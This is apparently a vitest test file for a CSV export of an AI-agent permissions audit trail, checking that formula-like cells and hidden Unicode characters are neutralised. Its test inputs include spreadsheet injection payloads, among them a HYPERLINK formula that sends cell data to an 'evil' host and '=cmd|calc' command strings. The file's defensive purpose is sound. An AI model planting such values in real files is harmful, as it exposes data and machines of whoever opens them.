// The CSV of the audit trail: what a spreadsheet would run or hide is shown as text.
import { describe, expect, it } from 'vitest'
import { csvHeader, csvLine } from '../../../src/permissions/trail/csv.ts'
import type { AuditRow } from '../../../src/store/store.ts'

const row = (data: Record<string, unknown>, changes: Partial<AuditRow> = {}): AuditRow => ({
  seq: 1,
  at: 0,
  event: 'verdict',
  actor: 'key:k',
  userId: 'alice',
  data,
  previousHash: '0'.repeat(64),
  hash: 'f'.repeat(64),
  ...changes,
})

/** The cells of one line, read as RFC 4180 says. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/g)].map((match) => (match[1] ?? '').replaceAll('""', '"'))
}

const names = cellsOf(csvHeader().replace('\ufeff', ''))
const cell = (line: string, name: string) => cellsOf(line)[names.indexOf(name)]
const commandOf = (command: string) => cell(csvLine(row({ command })), 'command')

describe('a cell', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil/?"&A1)', '  =1', '"=1', "'=1", '|calc', '%0A=1'])(
    'that begins like a formula becomes text: %j',
    (command) => {
      expect(commandOf(command)).toMatch(/^'/)
    },
  )

  it('that begins with a full-width sign, which some spreadsheets take for a formula, is spelt out', () => {
    expect(commandOf('＝1+1')).toBe('⟨U+FF1D⟩1+1')
  })

  it('marks nothing twice that the sentence has marked, and still what it has not', () => {
    const line = csvLine(row({ why: 'rm ⟨U+202E⟩x⏎y\u200b – ⟨12 spaces⟩ ⟨U+XYZ⟩' }))
    expect(cell(line, 'why')).toBe('rm ⟨U+202E⟩x⏎y⟨U+200B⟩ – ⟨12 spaces⟩ ⟨U+27E8⟩U+XYZ⟨U+27E9⟩')
  })

  it('of the whole entry marks as little twice, and lets no agent imitate a mark', () => {
    const data = { why: 'x⏎⟨U+200B⟩', command: 'y⟨U+200B⟩\u200b', toolInput: { why: 'z⏎', text: 'a\nb' } }
    expect(cell(csvLine(row(data)), 'data')).toBe(
      JSON.stringify({
        why: 'x⏎⟨U+200B⟩',
        command: 'y⟨U+27E8⟩U+200B⟨U+27E9⟩⟨U+200B⟩',
        toolInput: { why: 'z⟨U+23CE⟩', text: 'a⏎b' },
      }),
    )
  })

  it('shows what is hidden, and stays one line', () => {
    expect(commandOf('rm\u202e\u200b x\r\n=cmd\u0000')).toBe('rm⟨U+202E⟩⟨U+200B⟩ x⟨U+000D⟩⏎=cmd⟨U+0000⟩')
    expect(commandOf('\t=1')).toBe('⟨U+0009⟩=1')
    const line = csvLine(row({ command: 'a\nb', toolInput: { command: 'a\nb' } }))
    expect(line.indexOf('\n')).toBe(line.length - 1)
  })

  it('keeps quotes and commas', () => {
    expect(commandOf('say "hi", twice')).toBe('say "hi", twice')
  })

  it('is never longer than spreadsheets take', () => {
    expect(commandOf('x'.repeat(100_000))?.length).toBeLessThan(32_767)
  })
})

it('has a column for everything, in every line, and the whole entry in one of them', () => {
  const data = { tier: 'safe', rule: 'core/read', toolUseId: 'u1', toolName: 'bash', why: 'reads', decision: 'approve' }
  const line = csvLine(row(data, { agentId: 'bot', sessionId: 's', requestId: 'hook_1' }))
  expect(cellsOf(line)).toHaveLength(names.length)
  expect(Object.fromEntries(names.map((name, index) => [name, cellsOf(line)[index]]))).toMatchObject({
    seq: '1',
    time: '1970-01-01T00:00:00.000Z',
    kind: 'verdict',
    agentId: 'bot',
    sessionId: 's',
    requestId: 'hook_1',
    tier: 'safe',
    toolUseId: 'u1',
    data: JSON.stringify(data),
  })
  expect(cellsOf(csvLine(row({})))).toHaveLength(names.length)
})

it('shows hostile names of agents and users as harmlessly as commands', () => {
  const line = csvLine(row({}, { agentId: '=cmd|calc', userId: '@x', actor: '+key' }))
  for (const name of ['agentId', 'userId', 'actor']) expect(cell(line, name)).toMatch(/^'/)
})
